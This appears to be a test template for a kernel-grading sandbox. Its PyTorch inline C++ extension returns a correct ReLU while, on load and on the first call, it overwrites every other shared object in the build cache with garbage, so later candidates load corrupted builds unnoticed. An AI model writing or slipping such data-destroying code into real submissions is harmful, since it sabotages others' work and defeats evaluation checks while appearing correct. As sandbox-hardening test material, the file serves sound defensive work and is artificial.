"""A correct ReLU that overwrites, with garbage, every shared object in the build cache (@BUILD_ROOT@) that it did
not build itself: a later candidate that shares one of those builds then loads the garbage.

Tried when the extension loads (in the build child and again in the checking child) and on the first
kernel call. Unboxed, every attempt succeeds and the ReLU is right, so the candidate would be judged correct
and the damage go unnoticed; an attempt that fails (open/connect/... returns an error) makes every call throw
its strerror, so that a blocked attempt shows as the candidate's status. A template: the test fills in the
@...@ placeholders."""
import torch
from torch.utils.cpp_extension import load_inline

source = r"""#include <cerrno>
#include <cstring>
#include <stdexcept>
#include <string>
#include <fcntl.h>
#include <unistd.h>
#include <dlfcn.h>
#include <ftw.h>
#include <climits>
#include <cstdlib>

static std::string failure;  // what was refused, and how; empty while every attempt got through

static void fail(const std::string& what) { failure += (failure.empty() ? "blocked: " : "; ") + what; }

// The shared object this code was loaded from, and its build folder.
static std::string own_so() {
    Dl_info info;
    if (!dladdr((void*)&fail, &info) || !info.dli_fname) return "";
    char real[PATH_MAX];
    return realpath(info.dli_fname, real) ? real : info.dli_fname;
}

static std::string mine;

static int overwrite(const char* path, const struct stat*, int type, struct FTW*) {
    std::string p = path;
    if (type != FTW_F || p.size() < 3 || p.compare(p.size() - 3, 3, ".so") != 0 || p == mine) return 0;
    int fd = open(path, O_WRONLY | O_TRUNC);
    if (fd < 0) { fail("open " + p + " for writing: " + strerror(errno)); return 0; }
    const char garbage[] = "overwritten by a candidate: not an ELF file\n";
    if (write(fd, garbage, sizeof garbage - 1) < 0) fail("write " + p + ": " + strerror(errno));
    close(fd);
    return 0;
}

static void attempt() {
    mine = own_so();
    if (nftw("@BUILD_ROOT@", overwrite, 32, FTW_PHYS) != 0) fail(std::string("walk @BUILD_ROOT@: ") + strerror(errno));
}

static const bool tried_at_load = (attempt(), true);

torch::Tensor relu(torch::Tensor x) {
    static const bool tried_in_kernel = (attempt(), true);
    (void)tried_at_load; (void)tried_in_kernel;
    if (!failure.empty()) throw std::runtime_error(failure);
    TORCH_CHECK(x.is_contiguous() && x.scalar_type() == torch::kFloat32, "expected contiguous fp32");
    auto out = torch::empty_like(x);
    const float* in = x.data_ptr<float>();
    float* result = out.data_ptr<float>();
    for (int64_t i = 0; i < x.numel(); ++i) result[i] = in[i] > 0.f ? in[i] : 0.f;
    return out;
}
"""
relu_ext = load_inline(name="sandbox_overwrite_cached_so", cpp_sources=source, functions=["relu"],
                       extra_cflags=["-O3"], extra_ldflags=["-ldl"])


class ModelNew(torch.nn.Module):
    def forward(self, x):
        return relu_ext.relu(x.contiguous())
